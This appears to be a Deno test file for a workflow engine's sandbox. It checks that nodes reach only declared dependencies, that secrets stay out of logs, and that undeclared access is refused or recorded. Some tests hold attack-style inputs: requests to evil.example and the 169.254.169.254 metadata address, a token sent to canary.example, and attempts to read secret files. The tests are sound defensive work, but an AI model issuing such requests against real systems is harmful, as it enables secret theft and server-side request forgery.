/** What a node may use: its dependencies and secrets, the way out, and what of it is written down. */

import { assert, equal, includes } from "./assert.ts";
import { Engine, type Options } from "./engine.ts";
import { FakeGateway } from "./gateway.ts";

const SHOP = {
  protocol: "http",
  host: "shop.example",
  port: 80,
  auth: "api-token",
  secret: "shop.key",
};

const answering = (body: string): string =>
  `HTTP/1.1 200 OK\r\ncontent-length: ${body.length}\r\nconnection: close\r\n\r\n${body}`;

/** The engine listens at fixed addresses of its own, so that tests with a gateway take turns: they stand in one file. */
function shop(gateway: FakeGateway | null, more: Options = {}): Options {
  return {
    dependencies: {
      shop: SHOP,
      other: { protocol: "https", host: "other.example", port: 443, details: {} },
    },
    uses: { a: ["shop"] },
    net: { a: ["shop.example:80"] },
    reads: { a: ["shop.key"] },
    secrets: { "shop.key": "sword fish" },
    ...(gateway === null ? {} : { gateway: gateway.port }),
    ...more,
  };
}

Deno.test("a request goes to the dependency with its secret, through the gateway with the pass", async () => {
  await using gateway = new FakeGateway(() => answering('{"price": 3}'));
  const code = `export default async (ctx) => (await ctx.fetch("shop", "/prices?n=1")).json()`;
  await using engine = await Engine.start({ a: code }, shop(gateway));
  const { errors, outputs } = await engine.run();
  equal([errors, outputs], [{}, { a: { price: 3 } }]);
  const [asked] = gateway.asked;
  equal([asked?.pass, asked?.line], [
    "PASS the-pass",
    "GET http://shop.example/prices?n=1 HTTP/1.1",
  ]);
  includes(asked?.headers.toLowerCase() ?? "", "authorization: bearer sword fish");
});

Deno.test("an address elsewhere is refused before the secret is attached", async () => {
  await using gateway = new FakeGateway(() => answering("{}"));
  const places = [
    "https://evil.example/",
    "//evil.example/x",
    "\\\\\\\\evil.example\\\\x",
    "http://shop.example:81/",
    "http://user:pass@shop.example/",
    "https://shop.example/",
  ];
  const code = `export default async (ctx) => {
    const told = [];
    for (const place of ${JSON.stringify(places)}) {
      told.push(await ctx.fetch("shop", place).then(() => "sent", (error) => error.message));
    }
    return told;
  }`;
  await using engine = await Engine.start({ a: code }, shop(gateway));
  const { outputs } = await engine.run();
  equal(outputs.a.length, places.length);
  for (const told of outputs.a) includes(told, "is not at shop");
  equal(gateway.asked, []);
});

Deno.test("a redirect elsewhere is not followed", async () => {
  await using gateway = new FakeGateway(() =>
    "HTTP/1.1 302 Found\r\nlocation: http://169.254.169.254/\r\ncontent-length: 0\r\nconnection: close\r\n\r\n"
  );
  const code = `export default async (ctx) => (await ctx.fetch("shop", "/")).status`;
  await using engine = await Engine.start({ a: code }, shop(gateway));
  const { errors } = await engine.run();
  includes(errors.a, "is not at shop");
  equal(gateway.asked.length, 1);
});

Deno.test("code connects to what its node may use and to nothing else", async () => {
  await using gateway = new FakeGateway(() => answering("ok"));
  const code = `export default async () => {
    const tried = {};
    const attempt = async (name, work) => { tried[name] = await work().then((x) => x, (error) => error.name) };
    await attempt("declared", async () => (await fetch("http://shop.example/")).text());
    await attempt("undeclared", () => fetch("http://other.example/"));
    await attempt("proxy", () => Deno.connect({ hostname: "127.0.0.1", port: 3128 }));
    await attempt("address", () => fetch("http://169.254.169.254/"));
    await attempt("port", () => fetch("http://shop.example:81/"));
    await attempt("resolve", () => Deno.resolveDns("shop.example", "A"));
    return tried;
  }`;
  await using engine = await Engine.start({ a: code }, shop(gateway));
  const { outputs } = await engine.run();
  equal(outputs.a, {
    declared: "ok",
    undeclared: "NotCapable",
    proxy: "NotCapable",
    address: "NotCapable",
    port: "NotCapable",
    resolve: outputs.a.resolve,
  });
  assert(outputs.a.resolve !== "ok", JSON.stringify(outputs));
  equal(gateway.asked.length, 1);
});

Deno.test("a node has what it uses, and is told what to add for the rest", async () => {
  const code = `export default async (ctx) => {
    const told = [];
    const attempt = (work) => { try { told.push(work()) } catch (error) { told.push(error.message) } };
    attempt(() => ctx.dependency("shop").secret);
    attempt(() => ctx.dependency("shop").host);
    attempt(() => ctx.dependency("other"));
    attempt(() => ctx.dependency("nowhere"));
    attempt(() => ctx.dependency("__proto__"));
    attempt(() => ctx.secret("shop.key"));
    attempt(() => ctx.secret("other.key"));
    return told;
  }`;
  await using engine = await Engine.start({ a: code, b: code }, shop(null));
  const { outputs } = await engine.run();
  equal(outputs.a, [
    "sword fish",
    "shop.example",
    'node "a" may not use "other": add it to nodes.a.uses in workflow.yaml',
    'no node uses "nowhere": add it to contract.dependencies and to nodes.a.uses in workflow.yaml',
    'no node uses "__proto__": add it to contract.dependencies and to nodes.a.uses in workflow.yaml',
    "sword fish",
    'node "a" may not read the secret "other.key": it reads those of the dependencies that it uses (auth.secret)',
  ]);
  includes(outputs.b[0], 'node "b" may not use "shop"');
  includes(outputs.b[5], 'node "b" may not read the secret "shop.key"');
});

Deno.test("the files of secrets and of the pass are not for code", async () => {
  await using gateway = new FakeGateway(() => answering("ok"));
  const code = `export default async (ctx, { files }) => files.map((file) => {
    try { return Deno.readTextFileSync(file) } catch (error) { return error.name }
  })`;
  await using engine = await Engine.start({ a: code }, shop(gateway));
  const files = ["secrets/shop.key", "pass", "plan.json"].map((file) => `${engine.folder}/${file}`);
  const { outputs } = await engine.run({ files });
  equal(outputs.a, ["NotCapable", "NotCapable", "NotCapable"]);
});

Deno.test("secrets are taken out of logs and errors, however they are written", async () => {
  const code = `export default async (ctx) => {
    const secret = ctx.secret("shop.key");
    ctx.log.info("it is", secret);
    console.log({ nested: [secret] });
    ctx.log.warn(encodeURIComponent(secret), btoa(secret));
    throw new Error("with " + secret);
  }`;
  await using engine = await Engine.start({ a: code }, shop(null));
  const { errors } = await engine.run();
  includes(errors.a, "with [secret shop.key]");
  await engine.line((line) => line.level === "warn");
  const all = JSON.stringify(engine.lines);
  for (const form of ["sword fish", "sword%20fish", btoa("sword fish")]) {
    assert(!all.includes(form), all);
  }
  includes(all, "it is [secret shop.key]");
});

Deno.test("a secret is taken out where a line is cut, and where it is written in parts", async () => {
  const code = `export default async (ctx) => {
    const secret = ctx.secret("shop.key");
    ctx.log.info("x".repeat(8192 - 5) + secret);
    console.warn(secret.slice(0, 4), secret.slice(4));
    throw new Error("y".repeat(4096 - "Error: ".length - 5) + secret);
  }`;
  const secrets = { "shop.key": "sword+$&fish" };
  await using engine = await Engine.start({ a: code }, shop(null, { secrets }));
  const { errors } = await engine.run();
  equal((await engine.line((line) => line.level === "warn")).message, "[secret shop.key]");
  assert(!JSON.stringify([errors, engine.lines]).includes("swo"), JSON.stringify(errors));
});

Deno.test("in a range a redirect stays where it was asked, and other protocols are no requests", async () => {
  await using gateway = new FakeGateway(() =>
    "HTTP/1.1 302 Found\r\nlocation: http://203.0.113.10/\r\ncontent-length: 0\r\nconnection: close\r\n\r\n"
  );
  const code = `export default async (ctx) => {
    const why = (asked) => asked.then(() => "sent", (error) => error.message);
    return [
      await why(ctx.fetch("wide", "http://203.0.113.9/", { headers: { authorization: "mine" } })),
      await why(ctx.fetch("wide", "/prices")),
      await why(ctx.fetch("wide", "http://203.0.114.9/")),
      await why(ctx.fetch("db", "/prices")),
    ];
  }`;
  const dependencies = {
    wide: { protocol: "http" },
    db: { protocol: "postgresql", host: "db.example", port: 5432 },
  };
  const more = { dependencies, uses: { a: ["wide", "db"] }, net: { a: ["203.0.113.0/24:80"] } };
  await using engine = await Engine.start({ a: code }, shop(gateway, more));
  const { outputs } = await engine.run();
  includes(outputs.a[0], "redirected elsewhere: http://203.0.113.10");
  includes(outputs.a[1], "wide is a range: give a full address");
  includes(outputs.a[2], 'Requires net access to "203.0.114.9:80"');
  includes(outputs.a[3], "db speaks postgresql");
  equal(gateway.asked.map(({ line }) => line), ["GET http://203.0.113.9/ HTTP/1.1"]);
});

Deno.test("another protocol reaches its host by its own address, and a refusal stands in the log", async () => {
  const refusal =
    "HTTP/1.1 403 Forbidden\r\ntentacular-reason: db.example resolves to 10.0.0.7, a private address\r\ncontent-length: 0\r\n\r\n";
  await using gateway = new FakeGateway(({ line }) => line.includes(":5432 ") ? null : refusal);
  const forwards = [
    { at: "127.0.1.1", host: "db.example", port: 5432 },
    { at: "127.0.1.1", host: "db.example", port: 6379 },
  ];
  const code = `export default async () => {
    const ask = async (port) => {
      const connection = await Deno.connect({ hostname: "127.0.1.1", port });
      await connection.write(new TextEncoder().encode("ping"));
      const part = new Uint8Array(16);
      const count = await connection.read(part);
      connection.close();
      return count === null ? null : new TextDecoder().decode(part.subarray(0, count));
    };
    return [await ask(5432), await ask(6379)];
  }`;
  const net = { a: ["127.0.1.1:5432", "127.0.1.1:6379"] };
  await using engine = await Engine.start({ a: code }, shop(gateway, { forwards, net }));
  const { outputs, errors } = await engine.run();
  equal([outputs, errors], [{ a: ["ping", null] }, {}]);
  equal(gateway.asked.map(({ line }) => line), [
    "CONNECT db.example:5432 HTTP/1.1",
    "CONNECT db.example:6379 HTTP/1.1",
  ]);
  const said = await engine.line((line) => line.message.includes("refused a connection"));
  includes(said.message, "db.example resolves to 10.0.0.7");
});

// deno-lint-ignore no-explicit-any
async function observe(engine: Engine, input: unknown = {}): Promise<any> {
  const response = await engine.fetch("/observe", { method: "POST", body: JSON.stringify(input) });
  equal(response.status, 200);
  return await response.json();
}

Deno.test("an observed node is denied what every node is denied, goes on, and all of it is told", async () => {
  await using gateway = new FakeGateway(() => answering('{"price": 3}'));
  const listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  let reached = 0;
  const accepting = (async () => {
    for await (const connection of listener) {
      reached += 1;
      connection.close();
    }
  })();
  const { port } = listener.addr as Deno.NetAddr;
  const a = `export default async (ctx) => {
    const told = [(await (await ctx.fetch("shop", "/prices")).json()).price];
    const answer = await fetch("https://canary.example/?token=xyz");
    told.push(answer.status, answer.headers.get("tentacular-observed"), await answer.json());
    told.push((await ctx.fetch("books", "/list")).status);
    told.push((await ctx.fetch("tea", "https://tea.example:8443/list")).status);
    told.push((await ctx.dependency("other").fetch("/")).status, ctx.secret("tea.key"));
    told.push(await Deno.connect({ hostname: "127.0.0.1", port: ${port} }).catch((e) => e.name));
    try { new WebSocket("wss://feed.example/live") } catch (e) { told.push(e.name) }
    await Deno.connect({ hostname: "db.example", port: 5432 });
  }`;
  const b = `export default () => { fetch("https://late.example/"); return Promise.reject(
    new Error("no", { cause: new Error('Requires net access to "cause.example:443", run') })) }`;
  await using engine = await Engine.start({ a, b }, shop(gateway, { retries: 3 }));
  const { errors, observed } = await observe(engine);
  includes(errors.a, 'NotCapable: Requires net access to "db.example:5432"');
  // deno-lint-ignore no-explicit-any
  const of = (node: string) => observed.attempts.filter((it: any) => it.node === node);
  const line = (it: Record<string, unknown>): string =>
    [it.by, it.name, it.protocol, it.host, it.port, it.allowed].join(" ");
  equal(of("a").map(line), [
    "ctx.dependency shop    true",
    "ctx.fetch shop http shop.example 80 true",
    "fetch  https canary.example 443 false",
    "ctx.fetch books    false",
    "ctx.fetch tea https tea.example 8443 false",
    "ctx.dependency other    false",
    "ctx.fetch other    false",
    "ctx.secret tea.key    false",
    `Deno.connect  tcp 127.0.0.1 ${port} false`,
    "WebSocket  https feed.example 443 false",
    "Deno.connect  tcp db.example 5432 false",
  ]);
  includes(of("b").map(line).join("\n"), "code  https cause.example 443 false");
  equal([observed.carried, observed.refused], [["shop.example:80"], []]);
  assert(!JSON.stringify(observed).includes("xyz"), "what was sent is told");
  equal([reached, gateway.asked.length], [0, 1]);
  // what is not observed fails as ever, and tells nothing of it
  const ran = await engine.run();
  includes(ran.errors.a, "NotCapable");
  equal([ran.observed, gateway.asked.length], [undefined, 1 + 4]);
  listener.close();
  await accepting;
});

Deno.test("a secret that is not given is none, and what the gateway refuses is told", async () => {
  const why = "shop.example:80 is inside";
  const body = `${why}\n`;
  await using gateway = new FakeGateway(({ line }) =>
    line.startsWith("CONNECT ")
      ? `HTTP/1.1 403 Forbidden\r\ncontent-length: ${body.length}\r\n\r\n${body}`
      : `HTTP/1.1 403 Forbidden\r\ntentacular-reason: ${why}\r\ncontent-length: 0\r\nconnection: close\r\n\r\n`
  );
  const code = `export default async (ctx) => {
    const plain = await ctx.fetch("shop", "/");
    const tls = await ctx.fetch("tls", "/").catch((error) => error.name);
    return [plain.status, tls, ctx.dependency("tls").secret, ctx.secret("tls.key")];
  }`;
  const tls = { ...SHOP, protocol: "https", host: "tls.example", port: 443, secret: "tls.key" };
  const given = shop(gateway, {
    dependencies: { shop: SHOP, tls },
    uses: { a: ["shop", "tls"] },
    net: { a: ["shop.example:80", "tls.example:443"] },
  });
  await using engine = await Engine.start({ a: code }, given);
  const { outputs, observed } = await observe(engine);
  const none = "not-given-while-observed";
  equal(outputs.a, [403, "TypeError", none, none]);
  equal(observed.refused, [{ place: "tls.example:443", reason: why }]);
  // deno-lint-ignore no-explicit-any
  const refused = observed.attempts.filter((it: any) => !it.allowed);
  equal(refused, [{
    by: "ctx.fetch",
    name: "shop",
    host: "shop.example",
    port: 80,
    protocol: "http",
    reason: why,
    allowed: false,
    node: "a",
  }, { by: "ctx.secret", name: "tls.key", allowed: false, node: "a" }]);
});
